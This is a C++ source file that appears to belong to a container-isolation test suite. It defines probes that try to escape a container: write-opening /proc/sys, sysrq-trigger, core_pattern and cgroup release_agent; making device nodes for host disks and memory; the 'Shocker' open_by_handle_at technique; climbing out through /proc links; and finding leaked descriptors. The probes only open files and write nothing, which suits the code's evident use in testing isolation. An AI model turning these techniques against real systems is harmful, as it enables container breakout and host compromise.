// Files, devices and parameters of the host: by every directory that could lead there, by number, by handle, and by
// trying each file of /proc and /sys.
// Reads: open_by_handle_at(2), mknod(2), proc(5), sysfs(5), path_resolution(7).
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <memory>

#include "tests/kernel/escapes/attacks/attempt.h"

namespace attacks {

namespace {

using Directory = std::unique_ptr<DIR, int (*)(DIR*)>;

// Calls `visit` with every entry below `path`, without following links; stops when it returns true.
template <class Visit>
bool walk(const std::string& path, const Visit& visit) {
  const Directory directory(::opendir(path.c_str()), ::closedir);
  while (const dirent* entry = directory ? ::readdir(directory.get()) : nullptr) {
    const std::string name = entry->d_name;
    if (name == "." || name == "..") continue;
    const std::string below = std::string(path).append("/").append(name);
    if (visit(below, entry->d_type)) return true;
    if (entry->d_type == DT_DIR && walk(below, visit)) return true;
  }
  return false;
}

// Opens every file below `path` for writing. Nothing is written: that it opens is too much.
int open_each(const std::string& path, bool except_processes) {
  int last = ENOENT;
  const bool opened = walk(path, [&](const std::string& file, unsigned char type) {
    const bool of_process = except_processes && file.find_first_of("0123456789", 6) == 6;
    if (type != DT_REG || of_process) return false;
    const int fd = ::open(file.c_str(), O_WRONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) {
      last = errno;
      return false;
    }
    std::printf("opened %s\n", file.c_str());
    return true;
  });
  return opened ? kWorked : last;
}

int change_parameters(const Facts&) {
  return open_each("/proc/sys", false);
}

int change_devices(const Facts&) {
  return open_each("/sys", false);
}

int change_interrupts(const Facts&) {
  return open_each("/proc/irq", false);
}

int open_sysrq(const Facts&) {
  return answer(::open("/proc/sysrq-trigger", O_WRONLY));
}

int set_the_handler_of_cores(const Facts&) {
  return answer(::open("/proc/sys/kernel/core_pattern", O_WRONLY));
}

int set_a_release_agent(const Facts&) {
  int last = ENOENT;
  const bool found = walk("/sys/fs/cgroup", [&](const std::string& file, unsigned char) {
    if (!file.ends_with("/release_agent") && !file.ends_with("/notify_on_release")) return false;
    if (::open(file.c_str(), O_WRONLY) >= 0) return true;
    last = errno;
    return false;
  });
  return found ? kWorked : last;
}

int make_a_group(const Facts&) {
  int last = ENOENT;
  const bool made = walk("/sys/fs/cgroup", [&](const std::string& file, unsigned char type) {
    if (type != DT_DIR) return false;
    const std::string group = file + "/made-inside";
    if (::mkdir(group.c_str(), 0700) == 0) return ::rmdir(group.c_str()) == 0;
    last = errno;
    return false;
  });
  return made ? kWorked : last;
}

// A masked file is there, and is the empty null device.
int read_a_masked_file(const Facts&) {
  char byte = 0;
  const int fd = ::open("/proc/keys", O_RDONLY);
  if (fd < 0) return errno;
  return ::read(fd, &byte, 1) == 1 ? kWorked : ENODATA;
}

// Where a hostile neighbour has moved the file system that was mounted on /proc.
int change_parameters_of_a_moved_proc(const Facts&) {
  return answer(::open("/decoy/sys/kernel/core_pattern", O_WRONLY));
}

int read_keys_of_a_moved_proc(const Facts&) {
  char byte = 0;
  const int fd = ::open("/decoy/keys", O_RDONLY);
  if (fd < 0) return errno;
  return ::read(fd, &byte, 1) == 1 ? kWorked : ENODATA;
}

bool opens_as_node(mode_t type, dev_t device, int& last) {
  const std::string node = "/dev/isolab-node";
  ::unlink(node.c_str());
  if (::mknod(node.c_str(), type | 0600, device) < 0) {
    last = errno;
    return false;
  }
  const int fd = ::open(node.c_str(), O_RDONLY | O_NONBLOCK);
  if (fd < 0) last = errno;
  ::unlink(node.c_str());
  if (fd >= 0) std::printf("opened device %u:%u\n", major(device), minor(device));
  return fd >= 0;
}

// Every block device of the host, which /sys still tells by number.
int read_disks(const Facts&) {
  int last = ENOENT;
  const bool opened = walk("/sys/dev/block", [&](const std::string& file, unsigned char) {
    unsigned first = 0, second = 0;
    if (std::sscanf(file.c_str(), "/sys/dev/block/%u:%u", &first, &second) != 2) return false;
    return opens_as_node(S_IFBLK, makedev(first, second), last);
  });
  return opened ? kWorked : last;
}

// Memory, ports, the kernel's log, and devices that lead to other machines, file systems and networks.
int read_character_devices(const Facts&) {
  struct Device {
    unsigned first, second;
  };
  // mem, port, kmsg; tty0; loop-control, fuse, kvm, tun, hpet, rtc, vhost-net, userfaultfd's usual place
  constexpr Device kDevices[] = {{1, 1},    {1, 4},    {1, 11},   {4, 0},    {10, 237}, {10, 229},
                                 {10, 232}, {10, 200}, {10, 228}, {10, 135}, {10, 238}};
  int last = ENOENT;
  for (const Device& device : kDevices) {
    if (opens_as_node(S_IFCHR, makedev(device.first, device.second), last)) return kWorked;
  }
  return last;
}

// A handle as name_to_handle_at(2) gave it on the host: "type:hexadecimal bytes".
struct Handle {
  file_handle* get() { return reinterpret_cast<file_handle*>(bytes); }
  alignas(file_handle) unsigned char bytes[sizeof(file_handle) + MAX_HANDLE_SZ] = {};
};

Handle handle_of(const std::string& text) {
  Handle handle;
  handle.get()->handle_type = std::atoi(text.c_str());
  // What follows file_handle in memory: to the compiler its last member has no elements.
  unsigned char* next = handle.bytes + sizeof(file_handle);
  for (std::size_t i = text.find(':') + 1; i + 1 < text.size(); i += 2)
    *next++ = static_cast<unsigned char>(std::stoul(text.substr(i, 2), nullptr, 16));
  handle.get()->handle_bytes = static_cast<unsigned>(next - handle.bytes - sizeof(file_handle));
  return handle;
}

// "Shocker": any file of a file system of which one directory is bound into the container.
int open_by_handle(const Facts& facts) {
  Handle handle = handle_of(facts.at("handle"));
  const int lent = ::open("/attack", O_RDONLY | O_DIRECTORY);
  return answer(::open_by_handle_at(lent, handle.get(), O_RDONLY));
}

// Linux 6.18: namespaces have handles as well, and need no directory.
int open_namespace_by_handle(const Facts& facts) {
  constexpr int root_of_namespaces = -10003;
  if (!facts.contains("namespace")) return EOPNOTSUPP;
  Handle handle = handle_of(facts.at("namespace"));
  return answer(::open_by_handle_at(root_of_namespaces, handle.get(), O_RDONLY));
}

// Through the root, working directory and descriptors of every process that can be seen, and up from there.
int climb_from_processes(const Facts& facts) {
  const std::string up = "/../../../../../../../../../..";
  int last = ENOENT;
  const bool found = walk("/proc", [&](const std::string& file, unsigned char type) {
    const bool leads =
        file.ends_with("/root") || file.ends_with("/cwd") || file.find("/fd/") != std::string::npos;
    if (type != DT_LNK || !leads) return false;
    for (const std::string& start : {file, file + up}) {
      if (::open((start + facts.at("secret")).c_str(), O_RDONLY) >= 0) return true;
      if (errno != ENOTDIR) last = errno;
    }
    return false;
  });
  return found ? kWorked : last;
}

// Standard input, output and error are the program's; nothing else may be open.
int find_a_leaked_descriptor(const Facts&) {
  for (int fd = 3; fd < 4096; ++fd) {
    char target[256] = {};
    const std::string name = "/proc/self/fd/" + std::to_string(fd);
    if (::fcntl(fd, F_GETFD) < 0) continue;
    if (::readlink(name.c_str(), target, sizeof target - 1) > 0) std::printf("open: %d %s\n", fd, target);
    return kWorked;
  }
  return EBADF;
}

}  // namespace

std::vector<Attempt> file_attempts() {
  return {{"leaked-descriptor", find_a_leaked_descriptor},
          {"parameters", change_parameters},
          {"sysfs", change_devices},
          {"interrupts", change_interrupts},
          {"sysrq", open_sysrq},
          {"core-pattern", set_the_handler_of_cores},
          {"release-agent", set_a_release_agent},
          {"cgroup-mkdir", make_a_group},
          {"masked-file", read_a_masked_file},
          {"moved-parameters", change_parameters_of_a_moved_proc},
          {"moved-masked-file", read_keys_of_a_moved_proc},
          {"disks", read_disks},
          {"character-devices", read_character_devices},
          {"handle", open_by_handle},
          {"handle-of-namespace", open_namespace_by_handle},
          {"climb", climb_from_processes}};
}

}  // namespace attacks
